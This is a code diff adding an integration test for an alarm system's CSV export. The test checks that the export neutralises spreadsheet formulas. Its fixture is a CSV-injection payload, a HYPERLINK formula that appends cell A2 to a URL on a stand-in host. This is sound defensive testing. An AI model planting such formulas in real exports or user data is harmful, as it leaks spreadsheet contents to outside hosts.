@@ -224,3 +224,32 @@ describe('bounded ranges and statement timeout', () => {
     }
   });
 });
+
+describe('CSV exports neutralise formulas', () => {
+  it('the alarm-health CSV prefixes a source name that starts with = (OWASP CSV injection)', async () => {
+    const at = '2001-03-04T05:06:07Z';
+    const label = '=HYPERLINK("http://x.example/?"&A2,"open")';
+    const { rows } = await testPool().query<{ id: number }>(
+      `insert into alarms (source_kind, source_key, source_label, priority, message, state, active, raised_at, last_activated_at)
+       values ('system', $1, $2, 'low', 'csv test', 'normal', false, $3, $3) returning id`,
+      [`csv-test-${Date.now()}`, label, at],
+    );
+    const id = rows[0]!.id;
+    try {
+      await testPool().query(
+        `insert into alarm_events (alarm_id, at, event, to_state, active) values ($1, $2, 'activate', 'unacked', true)`,
+        [id, at],
+      );
+      const r = await fetch(`${base()}/api/v1/alarms/kpi?from=2001-03-04T00:00:00Z&to=2001-03-05T00:00:00Z&format=csv`, {
+        headers: { cookie: (await signIn('viewer')).cookie },
+      });
+      expect(r.status).toBe(200);
+      const csv = await r.text();
+      expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""open"")"`);
+      for (const line of csv.split(/\r?\n/)) expect(line.startsWith('=') || line.startsWith('"=')).toBe(false);
+    } finally {
+      await testPool().query('delete from alarm_events where alarm_id = $1', [id]);
+      await testPool().query('delete from alarms where id = $1', [id]);
+    }
+  });
+});
